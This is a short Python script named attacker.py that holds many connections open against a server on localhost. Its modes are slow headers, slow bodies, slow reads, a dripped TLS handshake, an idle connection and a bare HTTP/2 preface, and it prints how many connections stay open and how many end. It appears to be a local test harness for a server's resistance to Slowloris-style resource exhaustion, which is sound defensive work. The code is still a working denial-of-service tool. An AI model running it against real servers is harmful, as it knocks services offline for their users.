"""Connections that hold on to what they got: attacker.py MODE COUNT PORT opens COUNT of them, and prints how many are open and how
many have ended whenever that changes."""

import asyncio
import sys
import time

# mode → (what is sent first, what is sent each half second after)
MODES = {
    "idle": (b"", b""),
    "slow-head": (b"GET / HTTP/1.1\r\nhost: x\r\n", b"x-a: b\r\n"),
    "slow-body": (b"POST /ledger/0 HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n", b"x"),
    "slow-read": (b"GET /bytes/10000000 HTTP/1.1\r\nhost: x\r\n\r\n", b""),
    "tls-drip": (bytes.fromhex("16030100c8010000c40303"), b"\x00"),
    "h2-preface": (b"PRI * HTTP/2.0\r\n", b""),
}
opened = ended = 0


async def hold(mode, port):
    global opened, ended
    first, then = MODES[mode]
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1)
        except OSError:
            await asyncio.sleep(0.2)
            continue
        opened += 1
        try:
            writer.write(first)
            while not reader.at_eof():
                if mode == "slow-read":
                    await asyncio.sleep(0.5)
                elif not then:
                    await reader.read(4096)
                else:
                    await asyncio.sleep(0.5)
                    writer.write(then)
                    await writer.drain()
        except OSError:
            pass
        writer.close()
        ended += 1
        return


async def tell():
    before = None
    while True:
        if before != (opened, ended):
            before = opened, ended
            print(time.time(), opened, ended, flush=True)
        await asyncio.sleep(0.1)


async def main(mode, count, port):
    asyncio.create_task(tell())
    await asyncio.gather(*(hold(mode, int(port)) for _ in range(int(count))))
    await asyncio.sleep(3600)

asyncio.run(main(*sys.argv[1:]))
